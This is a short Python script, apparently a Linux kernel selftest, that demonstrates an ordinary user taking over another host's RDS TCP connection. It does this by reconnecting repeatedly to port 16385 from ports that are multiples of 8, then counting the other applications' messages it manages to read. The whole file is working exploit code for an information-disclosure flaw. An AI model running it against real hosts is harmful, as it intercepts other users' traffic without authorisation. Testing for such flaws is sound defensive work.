# SPDX-License-Identifier: GPL-2.0
"""An ordinary user who speaks to the RDS of another host as if it were this host's own.

    rds_takeover.py ME PEER SECONDS     `python3 -I -S` runs it in a guest

Connects to PEER's port 16385 again and again, from ports that are multiples of 8 as those of a
first path are, and reads whatever comes. Prints facts: the messages of applications it has read.
"""
import socket
import struct
import sys
import time

PORT, MAP = 16385, 1
HEADER = struct.Struct(">QQIHHBB4xH16x")


def messages(data):
    """Those of applications in the beginning of a stream, whole or not."""
    count = at = 0
    while at + HEADER.size <= len(data):
        _, _, length, _, dport, flags, _, _ = HEADER.unpack_from(data, at)
        count += bool(dport and length and not flags & MAP)
        at += HEADER.size + length
    return count


def visit(me, peer, port):
    """The bytes that one connection gives away before it falls silent for a moment."""
    data = b""
    with socket.socket(socket.AF_INET6 if ":" in me else socket.AF_INET) as sock:
        sock.settimeout(0.3)
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        try:
            sock.bind((me, port))
            sock.connect((peer, PORT))
            while chunk := sock.recv(1 << 16):
                data += chunk
        except OSError:
            pass
    return messages(data)


def main(me, peer, seconds):
    end, visits, pieces = time.monotonic() + float(seconds), 0, 0
    while time.monotonic() < end:
        pieces += visit(me, peer, 40000 + visits % 2500 * 8)
        visits += 1
        time.sleep(0.02)
    print(f"{visits} visits\nfact pieces read = {pieces}", flush=True)


main(*sys.argv[1:])
